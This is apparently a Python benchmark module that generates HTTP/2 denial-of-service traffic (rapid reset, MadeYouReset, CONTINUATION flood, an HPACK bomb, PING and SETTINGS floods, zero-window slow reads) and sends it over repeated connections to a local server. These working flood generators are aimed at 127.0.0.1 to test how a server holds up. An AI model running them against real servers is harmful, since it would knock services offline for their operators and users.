"""Attacks by HTTP/2: what one connection after another sends, for as long as the server takes it."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import NamedTuple

from hpack import Encoder

from benches.http2.frames import (
    BEGIN,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    fields,
    frame,
    head,
    setting,
)

Attack = Callable[[], Iterator[bytes]]
"""The bytes of one connection, from the preface on."""
CANCEL = b"\0\0\0\x08"
IDS = range(1, 2**20, 2)


def streams(each: Callable[[int], bytes], begin: bytes = BEGIN, together: int = 64) -> Iterator[bytes]:
    yield begin
    for first in IDS[::together]:
        yield b"".join(each(stream) for stream in range(first, first + 2 * together, 2))


def again(piece: bytes, begin: bytes = BEGIN, together: int = 512) -> Iterator[bytes]:
    yield begin
    while True:
        yield piece * together


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487"""
    return streams(lambda stream: head(stream, fields()) + frame(RST_STREAM, 0, stream, CANCEL))


def made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671"""
    return streams(lambda stream: head(stream, fields()) + frame(WINDOW_UPDATE, 0, stream, bytes(4)))


def continuations() -> Iterator[bytes]:
    """CVE-2024-27316"""
    return again(
        frame(CONTINUATION, 0, 1, b"\0\1a\x7f\x80\x7f" + b"x" * 10_000), BEGIN + frame(HEADERS, END_STREAM, 1), 1
    )


def hpack_bomb() -> Iterator[bytes]:
    """CVE-2026-49975: a field of 3,500 bytes in the table, and bytes of which each stands for it."""
    encoder = Encoder()
    first = bytes(encoder.encode([*fields(), ("x", "b" * 3500)], huffman=False))
    bomb = bytes(encoder.encode(fields(), huffman=False)) + b"\xbe" * 15_000
    begin = BEGIN + frame(HEADERS, END_STREAM | END_HEADERS, 1, first)
    yield begin
    for stream in IDS[1:]:
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb)


def slow_windows() -> Iterator[bytes]:
    """Responses of a megabyte, of which no byte is ever let go."""
    closed = PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 0))
    yield closed + b"".join(head(stream, fields("/megabyte")) for stream in IDS[:100])
    while True:
        time.sleep(0.1)
        yield b""


ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "MadeYouReset": made_you_reset,
    "CONTINUATION": continuations,
    "HPACK bomb": hpack_bomb,
    "PING": lambda: again(frame(PING, 0, 0, bytes(8))),
    "SETTINGS": lambda: again(frame(SETTINGS, 0, 0)),
    "empty DATA": lambda: again(frame(DATA, 0, 1), BEGIN + head(1, fields("/echo", "POST"), END_HEADERS)),
    "shut windows": slow_windows,
}


class Sent(NamedTuple):
    bytes: int
    connections: int


def attack(port: int, bytes_of: Attack, seconds: float) -> Sent:
    """Attacks for so long. A connection that the server ends is followed by another one."""
    end = time.monotonic() + seconds
    total = connections = 0
    while time.monotonic() < end:
        connections += 1
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            reader = threading.Thread(target=drain, args=(connection,), daemon=True)
            reader.start()
            for piece in bytes_of():
                connection.sendall(piece)
                total += len(piece)
                if time.monotonic() > end or not reader.is_alive():
                    break
    return Sent(total, connections)


def drain(connection: socket.socket) -> None:
    """Takes what the server says, as one does who wants it to go on."""
    with suppress(OSError):
        while has_more(connection):
            pass


def has_more(connection: socket.socket) -> bool:
    with suppress(
        TimeoutError
    ):  # which is the sender's, too: a server that takes nothing for so long gets another connection
        return bool(connection.recv(1 << 16))
    return True
